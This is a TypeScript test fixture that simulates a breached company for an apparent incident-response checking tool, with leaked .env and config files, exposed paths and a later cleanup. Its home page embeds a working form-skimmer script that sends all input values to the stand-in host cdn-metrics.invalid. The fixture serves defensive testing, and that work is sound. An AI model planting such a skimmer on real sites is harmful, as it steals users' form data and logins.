import { createHash } from 'node:crypto';
import type { RequestListener } from 'node:http';
import { createServer } from 'node:https';
import path from 'node:path';
import { fillPlaceholders } from '../../src/rules/placeholder.ts';
import { certifiedLoopback } from './certificates.ts';
import { repositoryAt, type TestRepository } from './git-repository.ts';
import { listen } from './listen.ts';
import { nameServer, type Zone } from './name-server.ts';
import { temporaryFolder } from './temporary-folder.ts';

/** A company that was broken into: what it has of repositories, websites and records, all on this machine. */
export interface Company {
  readonly repository: TestRepository;
  /** Options that name all that it has. */
  readonly options: readonly string[];
  /** Does what the playbooks say: no secret in the current files, the website closed, the records published. */
  cleanUp(): void;
}

const settings = `APP_NAME=Shop
MAIL_MAILER=smtp
MAIL_HOST=smtp-relay.brevo.com
MAIL_USERNAME=7a1b2c001@smtp-brevo.com
MAIL_PASSWORD=xsmtpsib-{hex:64}-{alnum:16}
BREVO_API_KEY=xkeysib-{hex:64}-{alnum:16}
`;

const mauticSettings = `<?php
$parameters = array(
  'db_driver' => 'pdo_mysql',
  'db_host' => 'localhost',
  'db_user' => 'mautic',
  'db_password' => 'Sommer{digit:2}xq',
  'mailer_dsn' => 'smtp://7a1b2c001%40smtp-brevo.com:xsmtpsib-{hex:64}-{alnum:16}@smtp-relay.brevo.com:587',
  'secret_key' => '{hex:64}',
  'site_url' => 'https://mautic.company.example',
);
`;

const skimmer = `<script>document.addEventListener('submit', function () {
  var d = {}; document.querySelectorAll('input').forEach(function (f) { d[f.name] = f.value; });
  new Image().src = 'https://cdn-metrics.invalid/p.gif?d=' + btoa(JSON.stringify(d));
});</script>`;

const form = '<form action="/form/submit" method="post"><input name="email" type="email"></form>';
const login = (mode: string): string =>
  `<!DOCTYPE html><html><head><title>Mautic</title><script>var mauticBasePath = '';\nvar mauticEnv = '${mode}';</script></head><body><form><input name="_username"><input name="_password"></form></body></html>`;

/** By path: what anybody could get before the work. */
const open: Readonly<Record<string, readonly [type: string, body: string]>> = {
  '/': [
    'text/html',
    `<!DOCTYPE html><html><head><title>Shop</title></head><body>${form}${skimmer}<script src="/mtc.js"></script></body></html>`,
  ],
  '/mtc.js': ['text/javascript', 'var MauticTrackingObject = "mt";'],
  '/s/login': ['text/html', login('dev')],
  '/.env': ['text/plain', fillPlaceholders(settings, 1)],
  '/config/local.php.bak': ['application/octet-stream', fillPlaceholders(mauticSettings, 2)],
  '/app/release_metadata.json': [
    'application/json',
    '{"version":"4.2.0","stability":"stable","minimum_php_version":"7.4.0","minimum_mautic_version":"3.2.0"}',
  ],
  '/upgrade.php': [
    'text/html',
    '<!DOCTYPE html><html><head><title>Upgrade Mautic</title></head><body></body></html>',
  ],
  '/media/files/': [
    'text/html',
    '<html><head><title>Index of /media/files/</title></head><body><h1>Index of /media/files/</h1><hr><pre><a href="../">../</a>\n<a href="contacts.csv">contacts.csv</a></pre></body></html>',
  ],
  '/crontab.txt': [
    'text/plain',
    '*/5 * * * * php /var/www/mautic/bin/console mautic:segments:update >/dev/null\n',
  ],
};

/** What is left of it afterwards. */
const closed: typeof open = {
  '/': [
    'text/html',
    `<!DOCTYPE html><html><head><title>Shop</title></head><body>${form}<script src="/mtc.js"></script></body></html>`,
  ],
  '/mtc.js': ['text/javascript', 'var MauticTrackingObject = "mt";'],
};

const protective = {
  'strict-transport-security': 'max-age=31536000; includeSubDomains',
  'x-content-type-options': 'nosniff',
  'content-security-policy':
    "default-src 'self'; object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'self'",
};

const records: Zone = {
  'TXT company.example': ['v=spf1 include:spf.brevo.com -all'],
  'TXT _dmarc.company.example': ['v=DMARC1; p=reject; rua=mailto:dmarc@company.example'],
  // A key is 32 bytes (RFC 8463, 4.2).
  'TXT mail._domainkey.company.example': [
    `v=DKIM1; k=ed25519; p=${createHash('sha256').update('company').digest('base64')}`,
  ],
  'TXT _mta-sts.company.example': ['v=STSv1; id=1'],
  'CAA company.example': ['letsencrypt.org'],
};

/** Sets the company up as it was found after the incident; its servers end with the test. */
export async function company(): Promise<Company> {
  let isClean = false;
  const repository = repositoryAt(temporaryFolder(), []);
  repository.commitFile('.env', fillPlaceholders(settings, 1), 'Send mail by Brevo');
  repository.commitFile('config/local.php', fillPlaceholders(mauticSettings, 2), 'Add Mautic');
  const { url, authority } = await website((request, response) => {
    const answer = (isClean ? closed : open)[request.url ?? ''];
    const [type, body] = answer ?? ['text/plain', 'not found'];
    response.writeHead(answer === undefined ? 404 : 200, {
      'content-type': type,
      ...(isClean ? protective : {}),
    });
    response.end(body);
  });
  const resolver = await nameServer(() => (isClean ? records : {}));
  return {
    repository,
    options:
      `--repo ${repository.dir} --site ${url} --ca-file ${authority} --mail-domain company.example --resolver ${resolver} --handshake`.split(
        ' ',
      ),
    cleanUp() {
      isClean = true;
      repository.remove('.env');
      repository.write(
        'config/local.php',
        "<?php\n$parameters = array('db_password' => getenv('DB_PASSWORD'));\n",
      );
      repository.write('.gitignore', '.env\n');
      repository.commit('Read secrets from the environment');
    },
  };
}

async function website(
  listener: RequestListener,
): Promise<{ readonly url: string; readonly authority: string }> {
  const { authority, server } = certifiedLoopback(90);
  const port = await listen(createServer(server, listener));
  return {
    url: `https://127.0.0.1:${port}/`,
    authority: path.join(temporaryFolder({ 'ca.pem': authority }), 'ca.pem'),
  };
}
